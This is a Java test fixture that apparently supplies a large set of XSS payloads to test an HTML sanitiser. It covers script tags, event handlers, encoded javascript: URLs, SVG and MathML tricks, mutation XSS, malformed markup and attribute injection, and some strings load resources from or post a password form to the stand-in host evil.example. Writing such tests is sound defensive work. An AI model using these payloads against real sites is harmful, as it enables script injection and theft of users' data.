package ytv2.model.summary;

import java.util.stream.Stream;

/// Markup that has got past one sanitiser or another, by kind. None of it may leave more than harmless text.
final class HostileHtml {

    private HostileHtml() {}

    static Stream<String> all() {
        return Stream.of(scripts(), handlers(), addresses(), foreignContent(), mutations(), malformed(), injections())
                .flatMap(cases -> cases);
    }

    private static Stream<String> scripts() {
        return Stream.of(
                "<script>alert(1)</script>",
                "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
                "<script/xss src=x></script>",
                "<<script>alert(1)//<</script>",
                "<script>alert(1)",
                "<scr<script>ipt>alert(1)</scr</script>ipt>",
                "<script\u0000>alert(1)</script>",
                "<script>/*</script>*/alert(1)</script>",
                "<script><!--<script></script>alert(1)--></script>",
                "<noscript><script>alert(1)</script></noscript>",
                "<style>@import 'https://evil.example/x.css';</style>",
                "<style>*{background:url(javascript:alert(1))}</style>",
                "<iframe src=javascript:alert(1)></iframe>",
                "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
                "<object data=javascript:alert(1)></object>",
                "<embed src=https://evil.example/x.swf>",
                "<applet code=x.class></applet>",
                "<base href=https://evil.example/>",
                "<link rel=stylesheet href=https://evil.example/x.css>",
                "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
                "<form action=https://evil.example><input name=password><button formaction=javascript:alert(1)>x</button></form>",
                "<isindex type=image src=1 onerror=alert(1)>",
                "<frameset><frame src=javascript:alert(1)></frameset>");
    }

    private static Stream<String> handlers() {
        return Stream.of(
                "<p onclick=alert(1)>x</p>",
                "<p/onclick=alert(1)>x</p>",
                "<p ONCLICK='alert(1)'>x</p>",
                "<p\nonclick\n=\nalert(1)>x</p>",
                "<img src=x onerror=alert(1)>",
                "<img/src=`x`onerror=alert(1)>",
                "<body onload=alert(1)>x",
                "<svg/onload=alert(1)>",
                "<video><source onerror=alert(1)></video>",
                "<details open ontoggle=alert(1)>x</details>",
                "<div style='width:expression(alert(1))'>x</div>",
                "<div style=\"background:url('javascript:alert(1)')\">x</div>",
                "<input autofocus onfocus=alert(1)>",
                "<marquee onstart=alert(1)>x</marquee>",
                "<p data-x=1 id=location name=cookie title=x>x</p>");
    }

    private static Stream<String> addresses() {
        return Stream.of(
                "<a href=javascript:alert(1)>x</a>",
                "<a href=JaVaScRiPt:alert(1)>x</a>",
                "<a href='&#106;avascript:alert(1)'>x</a>",
                "<a href='&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)'>x</a>",
                "<a href='java\tscript:alert(1)'>x</a>",
                "<a href='java&#10;script:alert(1)'>x</a>",
                "<a href='\u0001javascript:alert(1)'>x</a>",
                "<a href='&#1;javascript:alert(1)'>x</a>",
                "<a href=' javascript:alert(1)'>x</a>",
                "<a href='javascript&colon;alert(1)'>x</a>",
                "<a href='javascript&#58alert(1)'>x</a>",
                "<a href='vbscript:msgbox(1)'>x</a>",
                "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
                "<a href='feed:javascript:alert(1)'>x</a>",
                "<a href='//evil.example/'>x</a>",
                "<a href='\\\\evil.example'>x</a>",
                "<a href='http:javascript:alert(1)'>x</a>",
                "<a href='ftp://evil.example'>x</a>",
                "<a href='blob:https://x.example/1'>x</a>",
                "<a href=https://x.example target=_blank rel=opener download ping=https://evil.example>x</a>",
                "<a href='https://x.example/\"onmouseover=alert(1) '>x</a>",
                "<a href='https://x.example/' href=javascript:alert(1)>x</a>",
                "<a href=javascript:alert(1) href='https://x.example/'>x</a>",
                "<a xlink:href=javascript:alert(1)>x</a>");
    }

    private static Stream<String> foreignContent() {
        return Stream.of(
                "<svg><script>alert(1)</script></svg>",
                "<svg><style><img src=x onerror=alert(1)></style></svg>",
                "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
                "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
                "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
                "<svg><desc><noscript></desc></noscript><img src=x onerror=alert(1)></svg>",
                "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
                "<math><a xlink:href=javascript:alert(1)>x</a></math>",
                "<math href=javascript:alert(1)>x</math>",
                "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
                "<math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml></math>",
                "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>");
    }

    private static Stream<String> mutations() {
        return Stream.of(
                "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
                "<noscript><style></noscript><img src=x onerror=alert(1)></style>",
                "<template><script>alert(1)</script></template>",
                "<template><p>x</p><template>y</template></template><script>alert(1)</script>",
                "<style><!--</style><img src=x onerror=alert(1)>--></style>",
                "<textarea><p title=\"</textarea><img src=x onerror=alert(1)>\">",
                "<title><p title=\"</title><img src=x onerror=alert(1)>\">",
                "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
                "<noembed><img title=\"</noembed><img src=x onerror=alert(1)>\"></noembed>",
                "<noframes><img title=\"</noframes><img src=x onerror=alert(1)>\"></noframes>",
                "<iframe><img title=\"</iframe><img src=x onerror=alert(1)>\">",
                "<plaintext><script>alert(1)</script>",
                "<select><template><style><!--</style><a rel=\"--></style></template></select><img src=x onerror=alert(1)>\">",
                "<p title='--><img src=x onerror=alert(1)>'>x</p>",
                "<table><a href=javascript:alert(1)><script>alert(1)</script></table>",
                "&lt;script&gt;alert(1)&lt;/script&gt;",
                "&amp;lt;script&amp;gt;alert(1)",
                "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e");
    }

    private static Stream<String> malformed() {
        return Stream.of(
                "<!--><img src=x onerror=alert(1)>-->",
                "<!-- --!><img src=x onerror=alert(1)> -->",
                "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
                "<![CDATA[<script>alert(1)</script>]]>",
                "<?xml version='1.0'?><?php echo 1 ?><script>alert(1)</script>",
                "<!DOCTYPE html [<!ENTITY x '<script>alert(1)</script>'>]>&x;",
                "<p <script>alert(1)</script>>x",
                "<a href=\"https://x.example\"<script>alert(1)</script>>x</a>",
                "</p/onclick=alert(1)>",
                "<b <i onclick=alert(1)>x",
                "<ul><li><table><tr><td></ul><li>x</table>",
                "<b><p><i></b>x</i></p>",
                "<a href=https://x.example><table><tr><td><a href=javascript:alert(1)>x</a></table></a>",
                "<%<!--'%><script>alert(1);</script -->",
                "<p class=\"x",
                "<");
    }

    private static Stream<String> injections() {
        return Stream.of(
                "<p class='x\" onclick=\"alert(1)'>x</p>",
                "<p class='&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;'>x</p>",
                "<p class='good bad{} <b> kp-list'>x</p>",
                "<p class='expression(alert(1))'>x</p>",
                "<p class='a`b'>x</p>",
                "<p class='\u0000a'>x</p>",
                "<p class='javascript:alert(1)'>x</p>",
                "<p class=a class=b onclick=c>x</p>",
                "<p CLASS='a' cLaSs='\"><script>'>x</p>",
                "<p =class='x' '\">x</p>",
                "<p \"class=x\">x</p>",
                "<p class=\"{{constructor.constructor('alert(1)')()}}\">{{7*7}}</p>");
    }
}
